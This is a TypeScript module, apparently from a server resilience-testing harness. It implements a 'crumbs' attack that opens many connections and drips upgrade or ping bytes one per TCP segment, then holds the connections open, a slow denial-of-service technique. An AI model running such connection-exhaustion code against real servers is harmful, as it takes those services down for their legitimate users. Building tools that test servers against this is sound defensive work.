import { setImmediate } from "node:timers/promises";
import { type Attack, type Target } from "./attack.ts";
import { upgradeRequest } from "./bytes.ts";
import { eachConnection } from "./each-connection.ts";
import { pings, ragnarokPings } from "./requests.ts";

/**
 * Maximum number of bytes that an attacker sends. A server accepts all of these bytes before the first
 * request.
 */
const bytesMax = 4_000;

const saidAt = (target: Target): Uint8Array => {
  if (target.kind === "websocket") return Buffer.from(upgradeRequest(target));
  return (target.kind === "ragnarok" ? ragnarokPings : pings).subarray(0, bytesMax);
};

export const crumbs: Attack = {
  name: "crumbs",
  what: "send what may precede a first packet, one byte at a time",
  unit: "connections",
  count: 100,
  async run(count, field, toll) {
    const untilMs = performance.now() + field.floodMs;
    await eachConnection({ count, atOnce: count, field, toll }, async (connection, { target }) => {
      connection.onBytes(() => {});
      const said = saidAt(target);
      for (let at = 0; at < said.length && connection.isOpen && performance.now() < untilMs; at += 1) {
        connection.write(said.subarray(at, at + 1));
        // With this pause, each byte goes out in its own TCP segment.
        await setImmediate();
      }
      await connection.holdFor(field.patienceMs);
    });
  },
};
